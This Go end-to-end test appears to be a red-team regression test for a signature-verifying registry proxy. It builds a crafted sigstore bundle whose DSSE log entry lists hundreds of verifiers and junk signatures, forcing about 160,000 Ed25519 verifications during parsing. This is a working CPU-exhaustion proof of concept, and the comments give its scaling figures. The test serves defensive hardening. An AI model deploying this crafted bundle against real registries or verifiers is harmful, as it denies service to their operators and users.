package e2e

import (
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/types"
	protobundle "github.com/sigstore/protobuf-specs/gen/pb-go/bundle/v1"
	protorekor "github.com/sigstore/protobuf-specs/gen/pb-go/rekor/v1"
	"google.golang.org/protobuf/encoding/protojson"

	"github.com/cosign-dev/cosign/sigstore"
	"github.com/cosign-dev/cosign/sigstore/sigstoretest"
)

// Red team 5: red team 4's bounds on the keys a keyless artifact carries
// cover its certificates and timestamps, not its transparency-log entries,
// which are "left to sigstore-go". sigstore-go parses every entry body with
// rekor's types before it checks that the trusted log signed anything, and
// rekor's dsse 0.0.1 Unmarshal, given proposedContent, verifies every DSSE
// signature of the envelope with every one of its verifiers: K verifiers
// and J signatures cost K*J verifications. Each test fails while the attack
// works. verifier/redteam5_test.go has the same attack without clients.

// rt5DSSEJunkBundle is a genuine bundle of the attacker's own identity
// whose one log entry is replaced by a dsse 0.0.1 body with proposed
// content: an envelope of junk signatures and, last, one made with the
// attacker's Ed25519 key, which is listed keys times as verifier (each
// verifier tries every signature before the one it accepts).
func rt5DSSEJunkBundle(t testing.TB, s *sigstoretest.Sigstore, keys, junk int) []byte {
	t.Helper()
	sum := sha256.Sum256([]byte("mallory's own image"))
	raw, err := s.SignatureBundle(v1.Hash{Algorithm: "sha256", Hex: fmt.Sprintf("%x", sum)},
		sigstoretest.Options{Identity: rt4Mallory, Issuer: rt4Issuer})
	if err != nil {
		t.Fatal(err)
	}
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.MarshalPKIXPublicKey(pub)
	if err != nil {
		t.Fatal(err)
	}
	const pt = "application/vnd.in-toto+json"
	payload := []byte(`{"_type":"https://in-toto.io/Statement/v1"}`)
	type sig struct {
		Sig string `json:"sig"`
	}
	var sigs []sig
	for range junk {
		sigs = append(sigs, sig{base64.StdEncoding.EncodeToString(make([]byte, ed25519.SignatureSize))})
	}
	sigs = append(sigs, sig{base64.StdEncoding.EncodeToString(ed25519.Sign(priv, sigstore.PAE(pt, payload)))})
	env, err := json.Marshal(map[string]any{"payloadType": pt, "payload": base64.StdEncoding.EncodeToString(payload), "signatures": sigs})
	if err != nil {
		t.Fatal(err)
	}
	verifiers := make([][]byte, keys)
	for i := range verifiers {
		verifiers[i] = pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	}
	body, err := json.Marshal(map[string]any{"apiVersion": "0.0.1", "kind": "dsse",
		"spec": map[string]any{"proposedContent": map[string]any{"envelope": string(env), "verifiers": verifiers}}})
	if err != nil {
		t.Fatal(err)
	}
	var pb protobundle.Bundle
	if err := protojson.Unmarshal(raw, &pb); err != nil {
		t.Fatal(err)
	}
	e := pb.GetVerificationMaterial().GetTlogEntries()[0]
	e.KindVersion = &protorekor.KindVersion{Kind: "dsse", Version: "0.0.1"}
	e.CanonicalizedBody = body
	b, err := protojson.Marshal(&pb)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestRedTeam5LogEntryVerifiersDelayASignedImage: an image signed
// correctly by the trusted identity (a bundle referrer) gets one junk
// referrer from the attacker, listed before its own: a genuine bundle of
// the attacker's identity (about 140 KiB, an eighth of what a bundle may
// be) whose log entry body is dsse 0.0.1 with 400 verifiers and 401
// signatures. Before sigstore-go looks at whose log the entry claims to
// be from, rekor's Unmarshal makes ~160,000 Ed25519 verifications. The
// verification is not bounded by the lookup's deadline (upstreamTimeout
// 5s here): with 700 x 701 (240 KiB) the proxy answered 200 after 34 s
// and 33 s of CPU; a 1 MiB bundle is minutes. The figures are logged, not
// asserted (no timing assertions); the refusal when parsed that makes the
// cost go away is asserted in verifier/redteam5_test.go.
//
// Safe: the signed image is served (GET 200, ctr pull succeeds).
func TestRedTeam5LogEntryVerifiersDelayASignedImage(t *testing.T) {
	t.Parallel()
	l := newGateLab(t)
	const repo = "prod/app"
	ss, d, valid := rt4SignedImage(t, l, repo)

	junkBundle := rt5DSSEJunkBundle(t, ss, 400, 400)
	self := craftedDescriptor{MediaType: string(types.DockerManifestSchema2), Digest: d.String(),
		Size: int64(len(manifestBytes(t, l.registry+"/"+repo+"@"+d.String())))}
	empty := l.raw.emptyConfig(repo)
	layer := l.raw.blob(repo, bundleType, junkBundle)
	junk, _ := l.raw.manifestJSON(repo, "", craftedManifest{SchemaVersion: 2, MediaType: string(types.OCIManifestSchema1),
		ArtifactType: bundleType, Config: &empty, Layers: &[]craftedDescriptor{layer}, Subject: &self})
	junk.ArtifactType = bundleType
	apiPath := "/v2/" + repo + "/referrers/" + d.String()
	front := newUpstreamFront(t, l.registry, func(w http.ResponseWriter, r *http.Request) bool {
		if r.URL.Path != apiPath {
			return false
		}
		body, _ := json.Marshal(referrersIndex([]craftedDescriptor{junk, valid}))
		w.Header().Set("Content-Type", string(types.OCIImageIndex))
		_, _ = w.Write(body)
		return true
	})

	dir := rt4RootDir(t, ss)
	p := startProxy(t, l.bin, dir, fmt.Sprintf(rt4Config, l.registry, front.host(), rt4Issuer, rt4Subject))
	pid := p.proc.cmd.Process.Pid

	cpu0, start := procCPU(t, pid), time.Now()
	a := send(t, http.MethodGet, manifestURL(p.addr, repo, "v1"), "Accept", manifestAccept)
	t.Logf("GET %s:v1 behind 1 junk referrer of %d bytes (dsse log entry, 400 verifiers x 401 signatures): %s after %v, proxy CPU %v",
		repo, len(junkBundle), a, time.Since(start).Round(time.Millisecond), procCPU(t, pid)-cpu0)
	if a.status != http.StatusOK {
		t.Errorf("GET %s:v1 (signed by the trusted identity, 1 junk keyless referrer ahead of its bundle) was answered %s, want 200", repo, a)
		return
	}
	c := NewContainerdClient(t, Mirror{Proxy: p.addr, Upstream: l.registry})
	res, err := c.Pull(context.Background(), repo+":v1")
	if err != nil {
		t.Errorf("ctr pull %s:v1 (correctly signed) failed through the proxy: %v\n%s", repo, err, lastLines(res.Output, 3))
	}
}
